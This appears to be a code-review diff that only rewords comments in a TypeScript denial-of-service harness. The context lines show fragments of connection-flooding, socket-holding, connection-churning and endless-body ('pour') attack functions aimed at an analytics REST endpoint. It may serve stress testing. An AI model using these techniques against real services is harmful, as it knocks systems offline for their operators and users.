@@ -4,7 +4,7 @@ import { setTimeout } from 'node:timers/promises'
 import { gzipSync } from 'node:zlib'
 
 export type Target = { host: string; port: number; key: string; signal: AbortSignal }
-/** Goes on until the signal. */
+/** Runs until the process is killed. */
 type Attack = (target: Target) => Promise<unknown>
 
 const events = '/rest/v1/analytics_events'
@@ -20,7 +20,7 @@ function written({ key }: Target, { method, path, headers = {}, body = '' }: Req
   return Buffer.concat([Buffer.from(`${verb} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`), Buffer.from(body)])
 }
 
-/** Holds that many sockets, each in the hands of `use`; one that is closed is opened again. */
+/** Keeps that many sockets open, each handled by `use`; a closed one is opened again. */
 async function hold(target: Target, count: number, use: (socket: Socket) => void, pause = 50): Promise<unknown> {
   return Promise.all(
     Array.from({ length: count }, async () => {
@@ -38,7 +38,7 @@ async function hold(target: Target, count: number, use: (socket: Socket) => void
   )
 }
 
-/** Asks over and over on that many connections, the next as soon as there is an answer. */
+/** Sends requests on that many connections, each after the answer to the one before. */
 const flood = (count: number, make: (n: number) => Request): Attack => {
   let n = 0
   return (target) =>
@@ -57,7 +57,7 @@ const hang = (count: number, start: (target: Target) => Buffer, drop: string, ev
     })
 }
 
-/** As {@link flood}, but a connection is good for one request. */
+/** As {@link flood}, but with a new connection for each request. */
 const churn = (count: number, make: (n: number) => Request): Attack => {
   let n = 0
   return (target) =>
@@ -71,7 +71,7 @@ const churn = (count: number, make: (n: number) => Request): Attack => {
     )
 }
 
-/** Writes that as fast as it is taken, without an end. */
+/** Sends an endless body as fast as the server reads it. */
 const pour = (count: number, start: (target: Target) => Buffer, part: Buffer): Attack => {
   return (target) =>
     hold(target, count, (socket) => {
